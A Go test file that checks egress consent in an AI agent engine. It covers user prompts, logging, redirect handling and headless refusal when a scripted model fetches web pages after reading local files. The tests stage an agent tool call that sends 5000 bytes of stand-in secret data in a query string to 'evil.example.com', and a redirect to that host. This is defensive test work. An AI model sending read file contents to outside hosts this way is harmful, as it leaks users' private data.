package engine_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"atelier/engine"
	"atelier/workshop/agent"
	"atelier/workshop/web"
)

// webWorld has a model that asks for calls in turn, and pages under any name.
type webWorld struct {
	e     *engine.Engine
	id    string
	port  string
	calls []string // arguments of read; then the model is done

	mu       sync.Mutex
	fetched  []string // hosts, with the length of their query
	asked    []string // questions
	answers  []string // to them; the last for all more
	answered sync.WaitGroup
}

func newWebWorld(t *testing.T, change ...func(*engine.Options)) *webWorld {
	w := &webWorld{}
	v := newRemote(t, func(_ int, rw http.ResponseWriter, _ *http.Request) {
		if len(w.calls) == 0 {
			io.WriteString(rw, text("Done."))
			return
		}
		call := w.calls[0]
		w.calls = w.calls[1:]
		io.WriteString(rw, toolCall(len(w.calls), "read", fmt.Sprintf(`{"uri":%q}`, call)))
	})
	pages := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		host, _, _ := strings.Cut(r.Host, ":")
		w.mu.Lock()
		w.fetched = append(w.fetched, host)
		w.mu.Unlock()
		if to := r.URL.Query().Get("to"); to != "" {
			http.Redirect(rw, r, "http://"+to+":"+w.port+"/page?q="+r.URL.Query().Get("q"), http.StatusFound)
			return
		}
		rw.Header().Set("Content-Type", "text/plain")
		io.WriteString(rw, "Words of the page.")
	}))
	t.Cleanup(pages.Close)
	host, port, err := net.SplitHostPort(pages.Listener.Addr().String())
	require.NoError(t, err)
	w.port = port
	w.e = newEngine(t, append([]func(*engine.Options){v.use, func(o *engine.Options) {
		o.Fetch, o.FetchFreely = web.NewHTTP(web.Options{Allow: loopback, Resolve: toLoopback(host)}), true
	}}, change...)...)
	w.id, _ = folder(t, w.e, map[string]string{"a.txt": "alpha", "b.txt": "beta"})
	grantNow(t, w.e, w.id, "first", false)
	t.Cleanup(w.e.Subscribe(func(n engine.Notification) {
		if q, ok := n.Params.(agent.QuestionPending); ok {
			w.mu.Lock()
			defer w.mu.Unlock()
			w.asked = append(w.asked, q.Questions[0].Question)
			a := w.answers[0]
			if len(w.answers) > 1 {
				w.answers = w.answers[1:]
			}
			w.answered.Go(func() {
				_, err := w.e.Call(context.Background(), "WorkshopAnswerQuestion", json.RawMessage(fmt.Sprintf(`{"workbench_id":%q,"question_id":%q,"answers":{"fetch":%q}}`, w.id, q.QuestionID, a)))
				assert.NoError(t, err)
			})
		}
	}))
	return w
}

func (w *webWorld) page(host, query string) string {
	return "http://" + host + ":" + w.port + "/page?" + query
}

// run has the model make calls, answers questions and gives what was told of the
// calls, the hosts reached and the questions.
func (w *webWorld) run(t *testing.T, answers string, headless bool, calls ...string) (results, fetched, asked []string) {
	t.Helper()
	w.calls, w.fetched, w.asked, w.answers = calls, nil, nil, strings.Split(answers, "|")
	before := len(w.toolResults(t))
	_, info := runText(t, w.e, w.id, obj{"catalogue": "sila", "headless": headless})
	require.Nil(t, info)
	w.answered.Wait()
	return w.toolResults(t)[before:], w.fetched, w.asked
}

func (w *webWorld) toolResults(t *testing.T) (out []string) {
	for _, rec := range must(t, w.e, "WorkshopGetConversation", obj{"workbench_id": w.id})["messages"].([]any) {
		if r := rec.(obj); r["type"] == "tool_result" {
			out = append(out, r["content"].(string))
		}
	}
	return out
}

func (w *webWorld) fetches(t *testing.T) (out []obj) {
	for _, ev := range must(t, w.e, "EgressListEvents", obj{"workbench_id": w.id})["events"].([]any) {
		if ev.(obj)["kind"] == "fetch" {
			out = append(out, ev.(obj))
		}
	}
	return out
}

// A fetch after documents were read is egress: the user is asked, the host and the
// size of the address are shown and logged, and a redirect to another host is asked
// about too.
func TestFetchAfterReadingIsAsked(t *testing.T) {
	w := newWebWorld(t)
	secret := strings.Repeat("s", 5000)

	_, fetched, asked := w.run(t, "no", false, w.page("free.example.com", "q=1"))
	require.Empty(t, asked, "nothing was read yet, and the user turned pages on")
	require.Equal(t, []string{"free.example.com"}, fetched)

	results, fetched, asked := w.run(t, "no: it is private", false, "file:///a.txt", w.page("evil.example.com", "q="+secret))
	require.Len(t, asked, 1)
	require.Contains(t, asked[0], "evil.example.com:"+w.port)
	require.Regexp(t, `The address has 50\d\d bytes`, asked[0])
	require.Contains(t, asked[0], "a.txt")
	require.Less(t, len(asked[0]), 1000)
	require.Empty(t, fetched)
	require.Contains(t, results[1], "the user does not allow it: it is private")

	_, fetched, asked = w.run(t, "once", false, w.page("ok.example.com", "q="+secret), w.page("ok.example.com", "q=2"))
	require.Len(t, asked, 2, "once is once")
	require.Equal(t, []string{"ok.example.com", "ok.example.com"}, fetched)
	last := w.fetches(t)[1]
	require.Equal(t, "ok.example.com:"+w.port, last["host"])
	require.Greater(t, last["bytes_out"], float64(5000))
	require.Equal(t, []any{"a.txt"}, last["files"])

	_, fetched, asked = w.run(t, "run", false, w.page("ok.example.com", "q=1"), w.page("ok.example.com", "q=2"))
	require.Len(t, asked, 1)
	require.Len(t, fetched, 2)

	results, fetched, asked = w.run(t, "once|no", false, w.page("ok.example.com", "to=evil.example.com&q="+secret))
	require.Len(t, asked, 2, "the redirect is asked about")
	require.Contains(t, asked[1], "evil.example.com:"+w.port)
	require.Equal(t, []string{"ok.example.com"}, fetched)
	require.Contains(t, results[0], "does not allow it")

	_, fetched, asked = w.run(t, "always", false, w.page("ok.example.com", "q=1"), w.page("ok.example.com", "q=2"))
	require.Len(t, asked, 1)
	require.Len(t, fetched, 2)
	_, fetched, asked = w.run(t, "no", true, w.page("ok.example.com", "q=3"))
	require.Empty(t, asked)
	require.Len(t, fetched, 1, "it is kept, also for where nobody is there")
	results, fetched, asked = w.run(t, "no", false, "file:///b.txt", w.page("ok.example.com", "q=4"))
	require.Len(t, asked, 1, "b.txt came since")
	require.Contains(t, asked[0], "b.txt")
	require.NotContains(t, asked[0], "a.txt")
	require.Empty(t, fetched)
	require.Len(t, results, 2)

	results, fetched, _ = w.run(t, "no", true, w.page("ok.example.com", "q=4"))
	require.Empty(t, fetched)
	require.Contains(t, results[0], "nobody is there to allow it")
	require.NotNil(t, w.calls)
}

// allow_all asks nobody and local_only fetches nothing.
func TestFetchUnderPolicies(t *testing.T) {
	w := newWebWorld(t, func(o *engine.Options) { o.Egress = engine.EgressAllowAll })
	_, fetched, asked := w.run(t, "no", true, "file:///a.txt", w.page("far.example.com", "to=further.example.com"))
	require.Empty(t, asked)
	require.Equal(t, []string{"far.example.com", "further.example.com"}, fetched)
}

// Where pages were not turned on, as for an app, each host is asked about; a client
// that calls a tool by hand needs a consent that it can give.
func TestFetchOfApps(t *testing.T) {
	w := newWebWorld(t, func(o *engine.Options) { o.FetchFreely = false })
	_, fetched, asked := w.run(t, "no", false, w.page("far.example.com", "q=1"))
	require.Len(t, asked, 1)
	require.Empty(t, fetched)

	read := func(uri string) obj {
		return must(t, w.e, "ToolCall", obj{"workbench_id": w.id, "catalogue": "sila", "tool": "read", "args": obj{"uri": uri}})
	}
	r := read(w.page("far.example.com", "q=1"))["error"].(obj)
	require.Equal(t, engine.CodeEgressConsent, r["error_code"])
	about := r["egress"].(obj)
	require.Equal(t, "far.example.com:"+w.port, about["host"])
	grant := obj{"workbench_id": w.id, "provider_id": r["provider_id"], "model_id": r["model_id"], "scope_hash": about["scope_hash"]}
	must(t, w.e, "EgressGrantWorkshopConsent", grant)
	require.Equal(t, true, read(w.page("far.example.com", "q=1"))["success"])
	r = read(w.page("far.example.com", "to=evil.example.com"))["error"].(obj)
	require.Contains(t, r["detail"], "redirects to http://evil.example.com:"+w.port)
	require.Equal(t, []string{"far.example.com", "far.example.com"}, w.fetched)
	must(t, w.e, "EgressRevokeWorkshopConsent", obj{"workbench_id": w.id, "provider_id": r["provider_id"]})
	must(t, w.e, "EgressRevokeWorkshopConsent", obj{"workbench_id": w.id, "provider_id": engine.ProviderWeb, "model_id": about["host"]})
	require.Equal(t, false, read(w.page("far.example.com", "q=1"))["success"])
}
